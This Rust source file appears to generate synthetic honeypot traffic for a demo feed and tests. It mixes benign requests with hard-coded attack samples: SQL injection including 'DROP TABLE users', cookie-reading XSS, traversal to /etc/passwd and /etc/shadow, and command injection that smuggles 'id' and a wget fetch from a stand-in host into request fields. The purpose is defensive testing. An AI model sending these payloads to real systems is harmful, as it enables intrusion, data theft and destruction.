use crate::{AttackType, RawCapture};
use chrono::Utc;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::HashMap;

/// IPs sintéticas de prueba (rangos de documentación y privados)
const SYNTHETIC_IPS: &[&str] = &[
    "192.168.1.100", "192.168.1.101", "10.0.0.45", "10.0.0.46", "172.16.0.78",
    "203.0.113.12", "203.0.113.13", "203.0.113.14", "198.51.100.34", "198.51.100.35",
];

const NORMAL_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
];

const TOOL_AGENTS: &[&str] = &[
    "sqlmap/1.4.7 (http://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nikto/2.1.6)",
    "Nmap Scripting Engine",
    "Burp Suite Professional",
];

const NORMAL_PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/api/users",
    "/api/products?page=2",
    "/api/status",
    "/static/app.css",
];

const SQL_PAYLOADS: &[(&str, &str)] = &[
    ("/api/users?id=1", "1 UNION SELECT * FROM users WHERE 1=1--"),
    ("/api/products", "id=1' OR '1'='1"),
    ("/api/search", "q=1'; DROP TABLE users; --"),
    ("/api/honeypots/sql", "1 UNION SELECT * FROM users"),
];

const XSS_PAYLOADS: &[(&str, &str)] = &[
    ("/api/search", "q=<script>alert('xss')</script>"),
    ("/api/comment", "text=<img src=x onerror=alert('xss')>"),
    ("/api/profile", "name=<svg onload=alert(document.cookie)>"),
];

const TRAVERSAL_PAYLOADS: &[(&str, &str)] = &[
    ("/api/files/../../../etc/passwd", ""),
    ("/api/download", "file=../../../../etc/shadow"),
    ("/static/..\\..\\windows/system32/config", ""),
];

const CMD_PAYLOADS: &[(&str, &str)] = &[
    ("/api/ping", "host=127.0.0.1;id"),
    ("/api/tools/dns", "name=example.com`id`"),
    ("/api/convert", "input=$(wget http://198.51.100.9/s.sh)"),
];

const BRUTE_FORCE_USERS: &[&str] = &["admin", "root", "user", "test", "demo"];

/// Generador de capturas para el feed de demostración y los tests
///
/// Produce una mezcla ponderada de tráfico benigno y patrones de ataque
/// contra los endpoints honeypot. Determinista por seed.
pub struct CaptureGenerator {
    rng: StdRng,
    counter: u64,
}

impl CaptureGenerator {
    pub fn new() -> Self {
        Self::with_seed(rand::random())
    }

    pub fn with_seed(seed: u64) -> Self {
        Self {
            rng: StdRng::seed_from_u64(seed),
            counter: 0,
        }
    }

    /// Próxima captura de la mezcla: ~70% benigna, ~30% hostil
    pub fn next_capture(&mut self) -> RawCapture {
        self.counter += 1;
        if self.rng.gen_bool(0.7) {
            self.benign()
        } else {
            let kind = match self.rng.gen_range(0..6) {
                0 => AttackType::SqlInjection,
                1 => AttackType::Xss,
                2 => AttackType::DirectoryTraversal,
                3 => AttackType::CommandInjection,
                4 => AttackType::BruteForce,
                _ => AttackType::AutomatedTool,
            };
            self.attack(kind)
        }
    }

    /// Captura de tráfico normal
    pub fn benign(&mut self) -> RawCapture {
        let path = NORMAL_PATHS[self.rng.gen_range(0..NORMAL_PATHS.len())];
        self.capture("GET", path, "", NORMAL_AGENTS, Some(200))
    }

    /// Captura hostil del tipo pedido
    pub fn attack(&mut self, kind: AttackType) -> RawCapture {
        match kind {
            AttackType::SqlInjection => {
                let (path, body) = SQL_PAYLOADS[self.rng.gen_range(0..SQL_PAYLOADS.len())];
                self.capture("POST", path, body, NORMAL_AGENTS, Some(200))
            }
            AttackType::Xss => {
                let (path, body) = XSS_PAYLOADS[self.rng.gen_range(0..XSS_PAYLOADS.len())];
                self.capture("POST", path, body, NORMAL_AGENTS, Some(200))
            }
            AttackType::DirectoryTraversal => {
                let (path, body) =
                    TRAVERSAL_PAYLOADS[self.rng.gen_range(0..TRAVERSAL_PAYLOADS.len())];
                self.capture("GET", path, body, NORMAL_AGENTS, Some(404))
            }
            AttackType::CommandInjection => {
                let (path, body) = CMD_PAYLOADS[self.rng.gen_range(0..CMD_PAYLOADS.len())];
                self.capture("POST", path, body, NORMAL_AGENTS, Some(200))
            }
            AttackType::BruteForce => {
                let user = BRUTE_FORCE_USERS[self.rng.gen_range(0..BRUTE_FORCE_USERS.len())];
                let body = format!("username={}&password=guess{}", user, self.counter);
                self.capture("POST", "/api/login", &body, NORMAL_AGENTS, Some(401))
            }
            AttackType::AutomatedTool | AttackType::Unknown => {
                let path = NORMAL_PATHS[self.rng.gen_range(0..NORMAL_PATHS.len())];
                self.capture("GET", path, "", TOOL_AGENTS, Some(200))
            }
        }
    }

    fn capture(
        &mut self,
        method: &str,
        path: &str,
        body: &str,
        agents: &[&str],
        status_code: Option<u16>,
    ) -> RawCapture {
        let source_ip = SYNTHETIC_IPS[self.rng.gen_range(0..SYNTHETIC_IPS.len())];
        let user_agent = agents[self.rng.gen_range(0..agents.len())];

        let mut headers = HashMap::from([
            ("user-agent".to_string(), user_agent.to_string()),
            ("accept".to_string(), "*/*".to_string()),
        ]);
        if method == "POST" {
            headers.insert(
                "content-type".to_string(),
                "application/x-www-form-urlencoded".to_string(),
            );
        }

        RawCapture {
            source_ip: source_ip.to_string(),
            method: method.to_string(),
            path: path.to_string(),
            headers,
            body: body.as_bytes().to_vec(),
            timestamp: Utc::now(),
            status_code,
            response_time_ms: Some(self.rng.gen_range(0.5..60.0)),
            country: None,
        }
    }
}

impl Default for CaptureGenerator {
    fn default() -> Self {
        Self::new()
    }
}
